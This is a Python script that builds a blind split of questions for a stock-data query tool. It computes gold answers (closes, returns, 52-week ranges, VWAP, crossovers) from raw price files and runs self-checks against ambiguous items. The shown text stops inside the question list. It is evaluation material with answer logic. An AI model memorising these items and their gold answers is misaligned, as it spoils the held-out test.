#!/usr/bin/env python3
"""heldout-c (written as blind-17): a blind split of 240 questions for `stockctl ask`.

Holds the questions and computes every gold answer from the raw files, with its own code, following
../FORMAT.md. Standard library only. Data dir: $ASK_EVAL_DATA, else <repo>/../shared/data.
Writes questions.jsonl next to this file, but only when every self-check passes (else exit 1).
"""
import bisect
import csv
import datetime as dt
import json
import math
import os
import re
import sys
from collections import OrderedDict, defaultdict

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.abspath(os.path.join(HERE, "..", "..", ".."))
DATA = os.environ.get("ASK_EVAL_DATA") or os.path.join(REPO, "..", "shared", "data")

DAILY = ["AAPL", "AMD", "AMZN", "FB", "GOOGL", "IBM", "INTC", "JPM", "KO", "MSFT", "NFLX", "NVDA", "TSLA"]
ETFS = ["INDA", "FXY", "DBB"]
ALL = DAILY + ETFS
TODAY = "2025-07-08"

# --------------------------------------------------------------------------------------------------------------
# Loading
# --------------------------------------------------------------------------------------------------------------

def D(s):
    return dt.date.fromisoformat(s)


def _nth_sunday(y, m, n):
    d = dt.date(y, m, 1)
    d += dt.timedelta(days=(6 - d.weekday()) % 7)
    return d + dt.timedelta(days=7 * (n - 1))


def utc_to_ny(t):
    """US Eastern time, by the post-2007 rule: EDT from 2nd Sunday of March 02:00 local (07:00 UTC) to
    1st Sunday of November 02:00 local (06:00 UTC)."""
    start = dt.datetime.combine(_nth_sunday(t.year, 3, 2), dt.time(7, 0))
    end = dt.datetime.combine(_nth_sunday(t.year, 11, 1), dt.time(6, 0))
    return t - dt.timedelta(hours=4 if start <= t < end else 5)


def load_daily(sym):
    rows = []
    with open(os.path.join(DATA, "stocks", sym.lower() + ".us.txt")) as f:
        r = csv.reader(f)
        next(r)
        for line in r:
            if not line:
                continue
            d, o, h, l, c, v = line[:6]
            rows.append((d, float(o), float(h), float(l), float(c), float(v)))
    rows.sort()
    return rows


def load_minutes(sym):
    folder = os.path.join(DATA, "intraday")
    fn = sorted(x for x in os.listdir(folder) if x.startswith(sym + "_") and x.endswith(".csv"))[0]
    out = []
    with open(os.path.join(folder, fn)) as f:
        r = csv.reader(f)
        next(r)
        for line in r:
            if not line:
                continue
            t = utc_to_ny(dt.datetime.strptime(line[0], "%Y-%m-%d %H:%M:%S"))
            out.append((t.strftime("%Y-%m-%d %H:%M"),) + tuple(float(x) for x in line[1:6]))
    out.sort()
    return out


def minutes_to_daily(mins):
    by = OrderedDict()
    for m in mins:
        by.setdefault(m[0][:10], []).append(m)
    return [(d, ms[0][1], max(x[2] for x in ms), min(x[3] for x in ms), ms[-1][4], sum(x[5] for x in ms))
            for d, ms in by.items()]


F = {"open": 1, "high": 2, "low": 3, "close": 4, "volume": 5}


class Sym:
    def __init__(self, sym, rows):
        self.sym = sym
        self.rows = rows
        self.dates = [r[0] for r in rows]
        self.idx = {d: i for i, d in enumerate(self.dates)}

    def has(self, d):
        return d in self.idx

    def i(self, d):
        return self.idx[d]

    def at_or_before(self, d):
        i = bisect.bisect_right(self.dates, d) - 1
        if i < 0:
            raise KeyError("%s has no session on or before %s" % (self.sym, d))
        return i

    def win(self, a, b):
        return bisect.bisect_left(self.dates, a), bisect.bisect_right(self.dates, b)

    def val(self, i, field):
        r = self.rows[i]
        if field == "range":
            return r[2] - r[3]
        return r[F[field]]

    def ret(self, i):
        return self.rows[i][4] / self.rows[i - 1][4] - 1

    def gap(self, i):
        return self.rows[i][1] / self.rows[i - 1][4] - 1


S = {}
MIN = {}


def load_all():
    for s in DAILY:
        S[s] = Sym(s, load_daily(s))
    for s in ETFS:
        MIN[s] = load_minutes(s)
        S[s] = Sym(s, minutes_to_daily(MIN[s]))


# --------------------------------------------------------------------------------------------------------------
# Self-check plumbing: builders report problems into PENDING; Q() attaches them to the question.
# --------------------------------------------------------------------------------------------------------------

PENDING = []


def fail(msg):
    PENDING.append(msg)


def tol(b):
    return max(0.001 * abs(b), 0.01 if abs(b) >= 1 else 0.0001)


def near(a, b):
    """Would the scorer take a for b (or b for a)? Used to reject ties."""
    return abs(a - b) <= max(tol(a), tol(b))


def need(sym, d):
    if not S[sym].has(d):
        fail("%s has no session on %s" % (sym, d))


def need_three(d):
    for s in ETFS:
        need(s, d)


def no_ties(vals, n, what):
    """vals sorted best first: adjacent values inside the top n, and nth vs n+1th, must be apart."""
    for k in range(min(n, len(vals) - 1)):
        if near(vals[k], vals[k + 1]):
            fail("tie in %s at %d/%d: %r vs %r" % (what, k + 1, k + 2, vals[k], vals[k + 1]))


def not_weak_ret(x, what="return"):
    if abs(x) < 0.0005:
        fail("weak %s (flat): %r" % (what, x))


def ret_series(sym, a, b, drop_first=False):
    """[(date, return)] for the sessions in [a, b]; the first one measured from the session before the window."""
    s = S[sym]
    lo, hi = s.win(a, b)
    out = []
    for i in range(max(lo, 1), hi):
        if sym == "INDA" and (D(s.dates[i]) - D(s.dates[i - 1])).days > 7:
            fail("INDA return across its data gap on %s" % s.dates[i])
        out.append((s.dates[i], s.ret(i)))
    if drop_first and out:
        out = out[1:]
    return out


def gap_series(sym, a, b, drop_first=False):
    s = S[sym]
    lo, hi = s.win(a, b)
    out = [(s.dates[i], s.gap(i)) for i in range(max(lo, 1), hi)]
    return out[1:] if drop_first and out else out


# --------------------------------------------------------------------------------------------------------------
# Gold builders, one or more per kind. Each returns the gold dict.
# --------------------------------------------------------------------------------------------------------------

def G(rows, match, exact=False):
    return {"rows": rows, "match": match, "exact_rows": exact}


def latest_rows(sym, n, fields, asof=None):
    s = S[sym]
    if asof is not None:
        need(sym, asof)
        end = s.i(asof) + 1
    else:
        end = len(s.rows)
    rows = [[s.dates[i]] + [s.val(i, f) for f in fields] for i in range(end - n, end)]
    return G(rows, "set", True)


def day_value(sym, d, field):
    need(sym, d)
    return G([[d, S[sym].val(S[sym].i(d), field)]], "first")


def range_rows(sym, a, b, fields):
    need(sym, a)
    need(sym, b)
    s = S[sym]
    lo, hi = s.win(a, b)
    return G([[s.dates[i]] + [s.val(i, f) for f in fields] for i in range(lo, hi)], "set", True)


def _agg(sym, a, b, measure):
    s = S[sym]
    lo, hi = s.win(a, b)
    if hi <= lo:
        fail("empty window %s %s..%s" % (sym, a, b))
        return float("nan")
    if measure == "avg_close":
        return sum(s.val(i, "close") for i in range(lo, hi)) / (hi - lo)
    if measure == "avg_volume":
        return sum(s.val(i, "volume") for i in range(lo, hi)) / (hi - lo)
    if measure == "total_volume":
        return sum(s.val(i, "volume") for i in range(lo, hi))
    if measure == "max_high":
        return max(s.val(i, "high") for i in range(lo, hi))
    if measure == "min_low":
        return min(s.val(i, "low") for i in range(lo, hi))
    if measure == "max_close":
        return max(s.val(i, "close") for i in range(lo, hi))
    if measure == "min_close":
        return min(s.val(i, "close") for i in range(lo, hi))
    if measure == "avg_range":
        return sum(s.val(i, "range") for i in range(lo, hi)) / (hi - lo)
    if measure == "sessions":
        return hi - lo
    raise ValueError(measure)


def window_agg(sym, a, b, measure, named=True):
    if named:
        need(sym, a)
        need(sym, b)
    return G([[_agg(sym, a, b, measure)]], "first")


def extreme_day(sym, a, b, field, mode):
    s = S[sym]
    lo, hi = s.win(a, b)
    vals = sorted(((s.val(i, field), s.dates[i]) for i in range(lo, hi)), reverse=(mode == "max"))
    no_ties([v for v, _ in vals], 1, "extreme day")
    return G([[vals[0][1], vals[0][0]]], "first")


def wk52(sym, d, which):
    need(sym, d)
    s = S[sym]
    res = []
    for days in (364, 365):  # "365 days up to and including": both readings must agree
        a = (D(d) - dt.timedelta(days=days)).isoformat()
        lo, hi = s.win(a, d)
        res.append((min(s.val(i, "low") for i in range(lo, hi)), max(s.val(i, "high") for i in range(lo, hi))))
    if res[0] != res[1]:
        fail("52-week window edge changes the answer")
    if S[sym].dates[0] > (D(d) - dt.timedelta(days=365)).isoformat():
        fail("less than a year of data before %s" % d)
    lo_, hi_ = res[1]
    if which == "high":
        return G([[hi_]], "first")
    if which == "low":
        return G([[lo_]], "first")
    return G([[lo_, hi_]], "first")


def change_val(sym, a, b, strict=True):
    s = S[sym]
    if strict:
        need(sym, a)
        need(sym, b)
    ia, ib = s.at_or_before(a), s.at_or_before(b)
    v = s.rows[ib][4] / s.rows[ia][4] - 1
    return v


def change(sym, a, b, strict=True):
    v = change_val(sym, a, b, strict)
    not_weak_ret(v, "change")
    return G([[v]], "first")


def day_ret(sym, d, kind="return"):
    need(sym, d)
    s = S[sym]
    i = s.i(d)
    if sym == "INDA" and (D(d) - D(s.dates[i - 1])).days > 7:
        fail("INDA return across gap")
    v = s.ret(i) if kind == "return" else s.gap(i)
    not_weak_ret(v)
    return G([[d, v]], "first")


def biggest_move(sym, a, b, mode, series="return"):
    """mode: 'up' (largest), 'down' (most negative), 'abs' (largest |x|; kept only where it is a rise)."""
    res = []
    for drop in (False, True):
        ser = ret_series(sym, a, b, drop) if series == "return" else gap_series(sym, a, b, drop)
        key = {"up": lambda x: -x[1], "down": lambda x: x[1], "abs": lambda x: -abs(x[1])}[mode]
        ser = sorted(ser, key=key)
        res.append(ser)
    if res[0][0] != res[1][0]:
        fail("first session's return decides the biggest move")
    ser = res[0]
    k = {"up": lambda x: x[1], "down": lambda x: -x[1], "abs": lambda x: abs(x[1])}[mode]
    no_ties([k(x) for x in ser], 1, "biggest move")
    if mode == "abs" and ser[0][1] < 0:
        fail("abs move is a fall: sign ambiguous")
    return G([[ser[0][0], ser[0][1]]], "first")


def _day_measure(sym, d, measure):
    s = S[sym]
    i = s.i(d)
    if measure == "return":
        return s.ret(i)
    if measure == "gap":
        return s.gap(i)
    if measure == "range_pct":
        return (s.val(i, "high") - s.val(i, "low")) / s.val(i, "close")
    return s.val(i, measure)


def universe_on(d, syms=None):
    return [s for s in (syms or ALL) if S[s].has(d) and S[s].i(d) > 0]


def rank_day(d, measure, n, desc=True, syms=None, singular=False):
    if syms:
        for s in syms:
            need(s, d)
    u = universe_on(d, syms)
    if len(u) < (n + 1 if not syms else n):
        fail("universe too small on %s" % d)
    vals = sorted(((_day_measure(s, d, measure), s) for s in u), reverse=desc)
    no_ties([v for v, _ in vals], n, "ranking")
    rows = [[s, v] for v, s in vals[:n]]
    if singular:
        return G(rows[:1], "first")
    return G(rows, "ordered", True)


def gainers(a, b, n, desc=True, syms=None, singular=False):
    u = [s for s in (syms or ALL) if S[s].has(a) and S[s].has(b)]
    if syms and len(u) != len(syms):
        fail("not every named symbol trades on both dates")
    vals = sorted(((change_val(s, a, b), s) for s in u), reverse=desc)
    no_ties([v for v, _ in vals], n, "gainers")
    rows = [[s, v] for v, s in vals[:n]]
    if singular:
        return G(rows[:1], "first")
    return G(rows, "ordered", True)


def _measure(sym, a, b, measure):
    if measure == "change":
        return change_val(sym, a, b)
    if measure == "vol":
        return _vol(sym, a, b)
    return _agg(sym, a, b, measure)


def compare(syms, a, b, measure, style, higher_wins=True, day=None):
    vals = []
    for s in syms:
        if day:
            need(s, day)
            vals.append((_day_measure(s, day, measure), s))
        else:
            if measure == "change":
                need(s, a)
                need(s, b)
            vals.append((_measure(s, a, b, measure), s))
    vals.sort(reverse=higher_wins)
    if measure in ("change", "return"):
        for v, _ in vals:
            not_weak_ret(v)
    if measure == "vol" and not day:
        alt = sorted(((_vol(s, a, b, True), s) for s in syms), reverse=higher_wins)
        if [s for _, s in alt] != [s for _, s in vals] or any(not near(x[0], y[0]) for x, y in zip(vals, sorted(alt, key=lambda t: [s for _, s in vals].index(t[1])))):
            fail("volatility comparison depends on the first session's return")
    no_ties([v for v, _ in vals], len(vals) - 1, "comparison")
    rows = [[s, v] for v, s in vals]
    return G(rows, "ordered" if style == "which" else "set", True)


def _periods(a, b, per):
    """Calendar periods (label, start, end) covering a..b."""
    out = []
    y, m = D(a).year, D(a).month
    if per == "month":
        while (y, m) <= (D(b).year, D(b).month):
            nxt = dt.date(y + (m == 12), m % 12 + 1, 1)
            out.append(("%d-%02d" % (y, m), dt.date(y, m, 1).isoformat(), (nxt - dt.timedelta(1)).isoformat()))
            y, m = nxt.year, nxt.month
    elif per == "quarter":
        q = (m - 1) // 3
        while (y, q) <= (D(b).year, (D(b).month - 1) // 3):
            st = dt.date(y, 3 * q + 1, 1)
            nxt = dt.date(y + (q == 3), (3 * q + 3) % 12 + 1, 1)
            out.append(("%dQ%d" % (y, q + 1), st.isoformat(), (nxt - dt.timedelta(1)).isoformat()))
            y, q = nxt.year, (nxt.month - 1) // 3
    elif per == "year":
        for yy in range(D(a).year, D(b).year + 1):
            out.append((str(yy), "%d-01-01" % yy, "%d-12-31" % yy))
    elif per == "week":
        d = D(a) - dt.timedelta(days=D(a).weekday())
        while d <= D(b):
            out.append((d.isoformat(), d.isoformat(), (d + dt.timedelta(4)).isoformat()))
            d += dt.timedelta(7)
    return out


def _period_value(sym, st, en, measure):
    s = S[sym]
    lo, hi = s.win(st, en)
    if hi <= lo:
        fail("empty period %s %s..%s" % (sym, st, en))
        return float("nan")
    if measure == "last_close":
        return s.val(hi - 1, "close")
    if measure == "return":  # close-to-close over the period, from the previous period's last close
        return s.val(hi - 1, "close") / s.val(lo - 1, "close") - 1
    return _agg(sym, st, en, measure)


def grouped(sym, a, b, per, measure):
    rows = []
    for _, st, en in _periods(a, b, per):
        rows.append([_period_value(sym, max(st, a), min(en, b), measure)])
    return G(rows, "ordered", True)


def pop(sym, later, earlier, measure):
    l = _agg(sym, later[0], later[1], measure)
    e = _agg(sym, earlier[0], earlier[1], measure)
    not_weak_ret(l / e - 1, "period-over-period change")
    return G([[l, e, l / e - 1]], "first")


def ma_at(sym, i, n):
    s = S[sym]
    if i - n + 1 < 0:
        return None
    if sym == "INDA" and (D(s.dates[i]) - D(s.dates[i - n + 1])).days > n * 2 + 10:
        fail("INDA MA across its gap")
    return sum(s.rows[k][4] for k in range(i - n + 1, i + 1)) / n


def ma_value(sym, d, n):
    need(sym, d)
    return G([[d, ma_at(sym, S[sym].i(d), n)]], "first")


def crossover(sym, fast, slow, direction, d, when):
    """fast/slow: an int N (N-day MA) or 'close'. direction 'above'|'below'. when 'after'|'before' d.
    After: first crossing session strictly after d. Before: last crossing session strictly before d."""
    need(sym, d)
    s = S[sym]

    def series(x, i):
        return s.rows[i][4] if x == "close" else ma_at(sym, i, x)

    def is_cross(i):
        f0, s0, f1, s1 = series(fast, i - 1), series(slow, i - 1), series(fast, i), series(slow, i)
        if None in (f0, s0, f1, s1):
            return False
        return (f1 > s1 and f0 < s0) if direction == "above" else (f1 < s1 and f0 > s0)

    di = s.i(d)
    if is_cross(di):
        fail("the anchor date itself is a crossing day")
    rng = range(di + 1, len(s.rows)) if when == "after" else range(di - 1, 0, -1)
    for i in rng:
        if is_cross(i):
            for k in (i - 1, i):
                fk, sk = series(fast, k), series(slow, k)
                if abs(fk - sk) <= max(0.01, 1e-5 * abs(sk)):
                    fail("fast and slow nearly tie around the crossing %s" % s.dates[i])
            return G([[s.dates[i]]], "first")
    fail("no crossing found")
    return G([["1900-01-01"]], "first")


def _pred(op, thr):
    return {">": lambda x: x > thr, "<": lambda x: x < thr, "abs>": lambda x: abs(x) > thr}[op]


def _edge_check(vals, op, thr, what):
    if thr == 0:
        return  # up/down: a flat day is defined (neither), so there is no edge to fall on
    for v in vals:
        if abs((abs(v) if op == "abs>" else v) - thr) <= 1e-9 * max(1.0, abs(thr)):
            fail("%s: a value %r sits on the threshold %r" % (what, v, thr))


def count_days(sym, a, b, on, op, thr):
    """Sessions in the calendar window [a, b] whose value (close/volume/range/return/gap...) passes op thr."""
    s = S[sym]
    pred = _pred(op, thr)
    if on in ("return", "gap"):
        res = []
        for drop in (False, True):
            ser = ret_series(sym, a, b, drop) if on == "return" else gap_series(sym, a, b, drop)
            res.append(sum(1 for _, x in ser if pred(x)))
            _edge_check([x for _, x in ser], op, thr, "count")
        if res[0] != res[1]:
            fail("first session's return changes the count")
        n = res[0]
    else:
        lo, hi = s.win(a, b)
        vals = [s.val(i, on) for i in range(lo, hi)]
        _edge_check(vals, op, thr, "count")
        n = sum(1 for v in vals if pred(v))
    if n == 0:
        fail("count of 0")
    return G([[n]], "first")


def cross_count(d, measure, op, thr, syms=None):
    if syms:
        for s in syms:
            need(s, d)
    u = universe_on(d, syms)
    vals = [_day_measure(s, d, measure) for s in u]
    _edge_check(vals, op, thr, "cross count")
    n = sum(1 for v in vals if _pred(op, thr)(v))
    if n == 0:
        fail("count of 0")
    return G([[n]], "first")


def _vol(sym, a, b, drop=False):
    xs = [x for _, x in ret_series(sym, a, b, drop)]
    m = sum(xs) / len(xs)
    return math.sqrt(sum((x - m) ** 2 for x in xs) / (len(xs) - 1))


def volatility(sym, a, b):
    v0, v1 = _vol(sym, a, b), _vol(sym, a, b, True)
    if not near(v0, v1):
        fail("volatility depends on the first session's return: %r vs %r" % (v0, v1))
    return G([[v0]], "first")


def _corr(s1, s2, a, b, drop=False):
    r1 = dict(ret_series(s1, a, b, drop))
    r2 = dict(ret_series(s2, a, b, drop))
    common = sorted(set(r1) & set(r2))
    xs = [r1[d] for d in common]
    ys = [r2[d] for d in common]
    n = len(xs)
    mx, my = sum(xs) / n, sum(ys) / n
    sxy = sum((x - mx) * (y - my) for x, y in zip(xs, ys))
    sxx = sum((x - mx) ** 2 for x in xs)
    syy = sum((y - my) ** 2 for y in ys)
    return sxy / math.sqrt(sxx * syy)


def correlation(s1, s2, a, b):
    c0, c1 = _corr(s1, s2, a, b), _corr(s1, s2, a, b, True)
    if not near(c0, c1):
        fail("correlation depends on the first session's return: %r vs %r" % (c0, c1))
    if abs(c0) < 0.15:
        fail("near-zero correlation %r" % c0)
    return G([[c0]], "first")


def _streaks(sym, a, b, up, drop):
    ser = ret_series(sym, a, b, drop)
    runs = []
    cur = []
    for d, x in ser:
        if (x > 0) if up else (x < 0):
            cur.append(d)
        else:
            if cur:
                runs.append(cur)
            cur = []
    if cur:
        runs.append(cur)
    runs.sort(key=lambda r: -len(r))
    return runs


def streak(sym, a, b, up=True):
    r0, r1 = _streaks(sym, a, b, up, False), _streaks(sym, a, b, up, True)
    if r0[0] != r1[0]:
        fail("first session's return changes the streak")
    if len(r0) > 1 and len(r0[1]) == len(r0[0]):
        fail("two longest streaks tie")
    if len(r0[0]) < 3:
        fail("weak streak")
    best = r0[0]
    return G([[len(best), best[0], best[-1]]], "first")


def _mins(sym, d, t1=None, t2=None, incl_end=True):
    out = []
    for m in MIN[sym]:
        if m[0][:10] != d:
            continue
        t = m[0][11:]
        if t1 and t < t1:
            continue
        if t2 and (t > t2 if incl_end else t >= t2):
            continue
        out.append(m)
    return out


def _vwap(ms):
    return sum(m[4] * m[5] for m in ms) / sum(m[5] for m in ms)


def vwap_day(sym, d):
    need(sym, d)
    full = _vwap(_mins(sym, d))
    reg = _vwap(_mins(sym, d, "09:30", "16:00", False))
    if abs(full / reg - 1) > 0.001:
        fail("day VWAP differs from regular-session VWAP beyond 0.1%")
    return G([[full]], "first")


def vwap_window(sym, d, t1, t2, edges="both"):
    """edges='both': the phrasing leaves the end open, so both readings must agree; 'incl': through t2."""
    need(sym, d)
    a = _vwap(_mins(sym, d, t1, t2, True))
    if edges == "both":
        b = _vwap(_mins(sym, d, t1, t2, False))
        if not near(a, b):
            fail("window VWAP depends on the end-minute edge")
    return G([[a]], "first")


def minute_bars(sym, d, t1, t2, fields, edges="incl"):
    need(sym, d)
    ms = _mins(sym, d, t1, t2, True)
    if edges == "both" and ms and ms[-1][0][11:] == t2:
        fail("bar list depends on the end-minute edge")
    if not ms:
        fail("no bars")
    idx = {"open": 1, "high": 2, "low": 3, "close": 4, "volume": 5}
    return G([[m[0]] + [m[idx[f]] for f in fields] for m in ms], "set", True)


def candle(sym, a, b):
    s = S[sym]
    lo, hi = s.win(a, b)
    rows = s.rows[lo:hi]
    if not rows:
        fail("empty candle")
    return G([[rows[0][1], max(r[2] for r in rows), min(r[3] for r in rows), rows[-1][4],
               sum(r[5] for r in rows)]], "first")


def dist_high(sym, d):
    need(sym, d)
    s = S[sym]
    i = s.i(d)
    mx = max(s.rows[k][4] for k in range(0, i + 1))
    v = s.rows[i][4] / mx - 1
    if v > -0.0005:
        fail("at (or near) its high: weak")
    return G([[d, v]], "first")


def cov_first(sym):
    return G([[S[sym].dates[0]]], "first")


def cov_last(sym):
    return G([[S[sym].dates[-1]]], "first")


def cov_range(sym):
    return G([[S[sym].dates[0], S[sym].dates[-1]]], "first")


def cov_list(pred=None):
    syms = [s for s in ALL if pred is None or pred(S[s])]
    if not syms:
        fail("empty list")
    return G([[s] for s in syms], "set", True)


def cov_first_minute(sym, d=None):
    ms = [m for m in MIN[sym] if d is None or m[0][:10] == d]
    return G([[ms[0][0]]], "first")


def cov_count(sym, a, b):
    return G([[_agg(sym, a, b, "sessions")]], "first")


# --------------------------------------------------------------------------------------------------------------
# The questions. Each: (kind, text, gold thunk) or (kind, text, None, refusal).
# --------------------------------------------------------------------------------------------------------------

def questions():
    L = []

    def q(kind, text, fn):
        L.append((kind, text, fn, None))

    def r(kind, text):
        L.append((kind, text, None, kind))

    # ---- latest-rows (8) -----------------------------------------------------------------------------------
    q("latest-rows", "fxy last 5 closes", lambda: latest_rows("FXY", 5, ["close"]))
    q("latest-rows", "can you pull up DBB's open/high/low/close for the past 3 sessions?",
      lambda: latest_rows("DBB", 3, ["open", "high", "low", "close"]))
    q("latest-rows", "INDA latest bar pls (o/h/l/c + volume)",
      lambda: latest_rows("INDA", 1, ["open", "high", "low", "close", "volume"]))
    q("latest-rows", "Hey - what has FXY's volume been over the last four trading days?", lambda: latest_rows("FXY", 4, ["volume"]))
    q("latest-rows", "show me the final 3 rows in the Coca-Cola file, all columns",
      lambda: latest_rows("KO", 3, ["open", "high", "low", "close", "volume"]))
    q("latest-rows", "For a client note I need Apple's last four closing prices as of June 30, 2016.", lambda: latest_rows("AAPL", 4, ["close"], "2016-06-30"))
    q("latest-rows", "most recent 3 sessions of Netflix you've got - closing price and volume",
      lambda: latest_rows("NFLX", 3, ["close", "volume"]))
    q("latest-rows", "jpmorgan closes for the 5 sessions up to and including 4 Nov 2016",
      lambda: latest_rows("JPM", 5, ["close"], "2016-11-04"))

    # ---- day-value (8) -------------------------------------------------------------------------------------
    q("day-value", "nvda close 3/4/2016", lambda: day_value("NVDA", "2016-03-04", "close"))
    q("day-value", "what did msft open at on 14 Jan 2015?", lambda: day_value("MSFT", "2015-01-14", "open"))
    q("day-value", "How many Intel shares changed hands on Sept 18, 2014?",
      lambda: day_value("INTC", "2014-09-18", "volume"))
    q("day-value", "How wide was Tesla's trading range (high minus low) on June 24th, 2016?", lambda: day_value("TSLA", "2016-06-24", "range"))
    q("day-value", "what was teh high for coke on 2/11/2016", lambda: day_value("KO", "2016-02-11", "high"))
    q("day-value", "what was google's low on 24 aug 2015", lambda: day_value("GOOGL", "2015-08-24", "low"))
    q("day-value", "where did DBB close yesterday?", lambda: day_value("DBB", "2025-07-07", "close"))
    q("day-value", "FXY's intraday high on the 2nd of April this year", lambda: day_value("FXY", "2025-04-02", "high"))

    # ---- date-range-rows (8) -------------------------------------------------------------------------------
    q("date-range-rows", "AMZN closes Jan 20-23, 2015", lambda: range_rows("AMZN", "2015-01-20", "2015-01-23", ["close"]))
    q("date-range-rows", "give me Facebook's open and close for each day the week of June 27 2016",
      lambda: range_rows("FB", "2016-06-27", "2016-07-01", ["open", "close"]))
    q("date-range-rows", "Daily volumes for AMD from 10/3/2016 thru 10/7/2016",
      lambda: range_rows("AMD", "2016-10-03", "2016-10-07", ["volume"]))
    q("date-range-rows", "Pull IBM's daily OHLC for Apr 18 - Apr 22 2016 please",
      lambda: range_rows("IBM", "2016-04-18", "2016-04-22", ["open", "high", "low", "close"]))
    q("date-range-rows", "list nflx daily highs and lows 7/18/2016 to 7/21/2016",
      lambda: range_rows("NFLX", "2016-07-18", "2016-07-21", ["high", "low"]))
    q("date-range-rows", "what did apple close at each day from the 2nd to the 9th of sept 2014?",
      lambda: range_rows("AAPL", "2014-09-02", "2014-09-09", ["close"]))
    q("date-range-rows", "FXY closing prices June 23-27 this year",
      lambda: range_rows("FXY", "2025-06-23", "2025-06-27", ["close"]))
    q("date-range-rows", "DBB daily bars (OHLCV) for Jul 1 through Jul 3",
      lambda: range_rows("DBB", "2025-07-01", "2025-07-03", ["open", "high", "low", "close", "volume"]))

    # ---- window-aggregate (8) ------------------------------------------------------------------------------
    q("window-aggregate", "avg close of KO in Q3'15", lambda: window_agg("KO", "2015-07-01", "2015-09-30", "avg_close", False))
    q("window-aggregate", "how many nvidia shares traded in total during May 2016?",
      lambda: window_agg("NVDA", "2016-05-01", "2016-05-31", "total_volume", False))
    q("window-aggregate", "what was the highest price Amazon hit in H2 2016?",
      lambda: window_agg("AMZN", "2016-07-01", "2016-12-31", "max_high", False))
    q("window-aggregate", "lowest low for jpm in the 1st half of 2016",
      lambda: window_agg("JPM", "2016-01-01", "2016-06-30", "min_low", False))
    q("window-aggregate", "on average, how wide was Tesla's daily high-low range in Jan '16?",
      lambda: window_agg("TSLA", "2016-01-01", "2016-01-31", "avg_range", False))
    q("window-aggregate", "average daily volume in DBB last month",
      lambda: window_agg("DBB", "2025-06-01", "2025-06-30", "avg_volume", False))
    q("window-aggregate", "what's the highest FXY has traded so far this year?",
      lambda: window_agg("FXY", "2025-01-01", TODAY, "max_high", False))
    q("window-aggregate", "INDA mean closing price for March 2025",
      lambda: window_agg("INDA", "2025-03-01", "2025-03-31", "avg_close", False))

    # ---- extreme-day (8) -----------------------------------------------------------------------------------
    q("extreme-day", "which day in 2015 had the heaviest volume for apple?",
      lambda: extreme_day("AAPL", "2015-01-01", "2015-12-31", "volume", "max"))
    q("extreme-day", "When did Microsoft post its lowest close of 2016?",
      lambda: extreme_day("MSFT", "2016-01-01", "2016-12-31", "close", "min"))
    q("extreme-day", "on what date did NFLX print its highest high in 2017?",
      lambda: extreme_day("NFLX", "2017-01-01", "2017-12-31", "high", "max"))
    q("extreme-day", "googl: day with the widest high-low range in Q1 2016",
      lambda: extreme_day("GOOGL", "2016-01-01", "2016-03-31", "range", "max"))
    q("extreme-day", "Coke's quietest trading day by volume in 2014 - which one was it?",
      lambda: extreme_day("KO", "2014-01-01", "2014-12-31", "volume", "min"))
    q("extreme-day", "IBM's highest close of 2013 came on which day?",
      lambda: extreme_day("IBM", "2013-01-01", "2013-12-31", "close", "max"))
    q("extreme-day", "which session last quarter saw the most DBB volume?",
      lambda: extreme_day("DBB", "2025-04-01", "2025-06-30", "volume", "max"))
    q("extreme-day", "FXY's lowest close in 2024 - what day was that?",
      lambda: extreme_day("FXY", "2024-01-01", "2024-12-31", "close", "min"))

    # ---- 52-week (8) ---------------------------------------------------------------------------------------
    q("52-week", "52-wk high for NVDA as of 2016-12-30", lambda: wk52("NVDA", "2016-12-30", "high"))
    q("52-week", "What was Facebook's 52 week low on Aug 1 2016?", lambda: wk52("FB", "2016-08-01", "low"))
    q("52-week", "give me AAPL's 52-week range on 3/31/2017", lambda: wk52("AAPL", "2017-03-31", "range"))
    q("52-week", "amzn 52w hi on June 15 2017", lambda: wk52("AMZN", "2017-06-15", "high"))
    q("52-week", "Intel's 52-week low as of 11/10/2017?", lambda: wk52("INTC", "2017-11-10", "low"))
    q("52-week", "JP Morgan 52 week high and low on 2016-11-30", lambda: wk52("JPM", "2016-11-30", "range"))
    q("52-week", "fxy 52-week low today", lambda: wk52("FXY", TODAY, "low"))
    q("52-week", "DBB's 52-week high as of June 30th?", lambda: wk52("DBB", "2025-06-30", "high"))

    # ---- change-between (8) --------------------------------------------------------------------------------
    q("change-between", "hey, could you tell me how Tesla did over the first quarter of 2015? i.e. from the 2014 year-end close to the Mar 31 close",
      lambda: change("TSLA", "2014-12-31", "2015-03-31"))
    q("change-between", "% change in MSFT, close 2016-01-04 -> close 2016-12-30",
      lambda: change("MSFT", "2016-01-04", "2016-12-30"))
    q("change-between", "how did netflix do between Jan 1 2016 and Dec 31 2016?",
      lambda: change("NFLX", "2016-01-01", "2016-12-31", strict=False))
    q("change-between", "What was the return on Google from its 6/30/2015 close to its 9/30/2015 close?",
      lambda: change("GOOGL", "2015-06-30", "2015-09-30"))
    q("change-between", "AMD: close on Feb 1 2016 vs close on Aug 1 2016, what's the pct change?",
      lambda: change("AMD", "2016-02-01", "2016-08-01"))
    q("change-between", "FXY ytd, measured from the 2024 year-end close", lambda: change("FXY", "2024-12-31", TODAY))
    q("change-between", "how much did DBB gain or lose from the March 31 close to the June 30 close?",
      lambda: change("DBB", "2025-03-31", "2025-06-30"))
    q("change-between", "INDA change from the 2025-02-14 close to the 2025-05-30 close",
      lambda: change("INDA", "2025-02-14", "2025-05-30"))

    # ---- daily-return-or-gap (9) ---------------------------------------------------------------------------
    q("daily-return-or-gap", "what was teh daily return on NFLX on 2016-07-19?", lambda: day_ret("NFLX", "2016-07-19"))
    q("daily-return-or-gap", "AMZN gap on 10/23/2015", lambda: day_ret("AMZN", "2015-10-23", "gap"))
    q("daily-return-or-gap", "how much did Facebook gap up at the open on Jan 28, 2016?",
      lambda: day_ret("FB", "2016-01-28", "gap"))
    q("daily-return-or-gap", "JP Morgan's % change the day after the election, Nov 9 2016", lambda: day_ret("JPM", "2016-11-09"))
    q("daily-return-or-gap", "did intel go up or down on 2016-10-21, and by how much?", lambda: day_ret("INTC", "2016-10-21"))
    q("daily-return-or-gap", "KO one-day return, 24 Jun 2016", lambda: day_ret("KO", "2016-06-24"))
    q("daily-return-or-gap", "DBB return on April 9th", lambda: day_ret("DBB", "2025-04-09"))
    q("daily-return-or-gap", "the yen ETF (FXY) gapped at the open on Aug 5 2024 - how big was the gap?", lambda: day_ret("FXY", "2024-08-05", "gap"))
    q("daily-return-or-gap", "INDA daily % move on 4/7/2025", lambda: day_ret("INDA", "2025-04-07"))

    # ---- biggest-move-day (8) ------------------------------------------------------------------------------
